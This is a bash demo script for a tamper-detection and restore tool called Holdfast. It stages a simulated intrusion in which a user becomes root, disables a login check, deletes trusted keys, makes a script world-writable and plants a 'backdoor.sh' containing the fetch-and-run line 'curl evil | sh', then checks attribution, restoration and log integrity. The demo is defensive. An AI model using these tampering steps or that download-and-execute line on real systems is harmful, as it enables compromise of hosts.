#!/bin/bash
# demo.sh HOLDFAST: what Holdfast is for, on real input, in under three minutes.
# A person logs in by ssh, becomes root, and tampers. Then Holdfast is asked what
# happened. Each claim is checked; exit code 1 if any fails. All that the demo
# makes on this machine it removes again, whatever happens.
set -euo pipefail
cd "$(dirname "$0")/.."
[ "$(id -u)" = 0 ] || { echo "demo: needs root: it loads BPF programs, adds two users and a network namespace" >&2; exit 1; }
holdfast=$(realpath "${1:-bin/holdfast}")
. demo/scene.sh
. demo/claims.sh

T=$(mktemp -d /tmp/holdfast-demo.XXXXXX)
chmod 0711 "$T"
daemon=
cleanup() {
	local code=$?
	trap - EXIT INT TERM HUP
	set +e
	if [ -n "$daemon" ]; then
		hf stop --reason 'the demo is over' --wait >/dev/null || kill "$daemon" 2>/dev/null
		wait "$daemon"
	fi
	scene_down
	if [ $code != 0 ] && [ -s "$T/daemon.log" ]; then
		echo
		echo "The daemon's log, last lines:"
		tail -n 30 "$T/daemon.log"
	fi
	rm -rf "$T"
	exit $code
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM HUP
hf() { "$holdfast" --state "$T/state" --socket "$T/holdfast.sock" "$@"; }

P=$T/protected O=$T/observed
prepare_trees() {
	mkdir "$P" "$O"
	printf 'listen 443\nadmin_group wheel\nrequire_login yes\n' >"$P/service.conf"
	printf 'ssh-ed25519 AAAA-the-key-of-the-backup-host\n' >"$P/trusted_keys"
	printf '#!/bin/sh\nexec /usr/bin/true\n' >"$P/nightly.sh"
	chown root:backup "$P/nightly.sh"
	chmod 0750 "$P/nightly.sh"
	setfacl -m u:www-data:r "$P/service.conf"
	setfattr -n user.owner -v platform-team "$P/trusted_keys"
	printf '<h1>Welcome</h1>\n' >"$O/index.html"
	printf 'terms of service\n' >"$O/terms.txt"
	printf 'opening hours: 9 to 5\n' >"$O/hours.txt"
}

# picture DIR prints everything about a tree that a restore has to bring back.
picture() {
	(
		cd "$1"
		find . -mindepth 1 -printf '%P %y %m %U:%G %s %T@ %l\n' | sort
		find . -type f -print0 | sort -z | xargs -0r sha256sum
		find . -mindepth 1 -print0 | sort -z | xargs -0r getfacl -pn 2>/dev/null
		find . -mindepth 1 -print0 | sort -z | xargs -0r getfattr -d -m - -h 2>/dev/null
	)
}

step "Holdfast starts on two trees"
prepare_trees
scene_up "$T"
picture "$P" >"$T/protected.before"
picture "$O" >"$T/observed.before"
tell "$P   restore: what is tampered with is put back"
tell "$O    observe: what is changed is recorded"
"$holdfast" --state "$T/state" --socket "$T/holdfast.sock" run --watch "$P=restore" --watch "$O=observe" >"$T/daemon.log" 2>&1 &
daemon=$!
claim "armed: every file under restore is in the vault" armed
[ $failures = 0 ] || exit 1
tell "tier: $(hf status --json | jq -r .tier) (the last lines tell what a better one adds)"

step "Somebody logs in from $SCENE_NET.2, becomes root, and tampers"
tampering=(
	"sudo sed -i 's/require_login yes/require_login no/' $P/service.conf"
	"sudo rm $P/trusted_keys"
	"sudo chmod 777 $P/nightly.sh"
	"echo 'curl evil | sh' | sudo tee $P/backdoor.sh >/dev/null"
	"sudo sed -i 's/Welcome/Owned/' $O/index.html"
	"sudo rm $O/terms.txt"
	"sudo touch $O/dropped.php"
)
for c in "${tampering[@]}"; do tell "\$ $c"; done
scene_login $SCENE_ALICE "$(printf '%s\n' 'set -e' "${tampering[@]}")" >"$T/act.out" 2>&1 ||
	{ echo "demo: the login could not do it:"; cat "$T/act.out"; exit 1; }
tell "(meanwhile somebody else, from $SCENE_NET.3, does honest work)"
scene_login $SCENE_BOB "sudo sed -i 's/9 to 5/8 to 6/' $O/hours.txt" 2>"$T/act.out"
claim "the changes under observe stand" recorded

step "Who was it?   holdfast who $P/service.conf"
hf who "$P/service.conf" | indent
claim "the person is $SCENE_ALICE, although root did it" who_is "$P/service.conf" ".actor.user == \"$SCENE_ALICE\" and .actor.euid == 0"
claim "she came from $SCENE_NET.2, as the kernel's socket had it" who_is "$P/service.conf" ".actor.source_ip == \"$SCENE_NET.2\" and .actor.origin == \"ssh\""
claim "through sshd, a shell, sudo and sed" who_chain "$P/service.conf" sshd bash sudo sed
claim "the same for the file that is gone" who_is "$O/terms.txt" ".actor.user == \"$SCENE_ALICE\" and .op == \"unlink\""
claim "the other person's work is the other person's" who_is "$O/hours.txt" ".actor.user == \"$SCENE_BOB\" and .actor.source_ip == \"$SCENE_NET.3\""

step "The record"
hf log --path "$P/" --kind change | indent
record=$(hf who --json "$P/service.conf" | jq -r .id)
tell "\$ holdfast show $record"
hf show "$record" | grep -E '^(time|op|path|path_to|(before|after)\.(hash|mode|user)|verdict|actor\.(user|euid|via|session|source_ip)|process\.(exe|argv)|chain|answered by|proof) ' | indent
claim "it holds the hash of what was there before" test "$(hf show --json "$record" | jq -r .before.hash)" = "$(b3 <"$T/service.conf.good")"

step "What was protected is back"
claim "content, mode, owner, times, ACL and attributes are as before" same_as "$T/protected.before" "$P"
claim "the dropped file is kept as evidence, not lost" evidence 'curl evil'
indent <"$T/protected.before" | grep -E ' f ' || true

step "What was only observed is undone by its cause: holdfast undo --session"
session=$(hf who --json "$O/index.html" | jq -r .actor.session)
tell "\$ holdfast undo --session $session --dry-run"
hf undo --session "$session" --dry-run | indent
claim "a dry run changes nothing" grep -q Owned "$O/index.html"
hf undo --session "$session" | indent
claim "her changes are gone, every byte and attribute" undone
claim "the other person's change is still there" grep -q '8 to 6' "$O/hours.txt"

step "Can the log be trusted?   holdfast verify"
hf verify | indent
claim "every record is what was written" hf_exits 0 "$T/state" verify
flip_copy
claim "with one byte of a copy flipped, verify says so and exits 6" hf_exits 6 "$T/flipped" verify
"$holdfast" --state "$T/flipped" verify 2>&1 | indent || true

step "What this kernel allows   holdfast doctor"
hf doctor 2>&1 | indent || true
finish
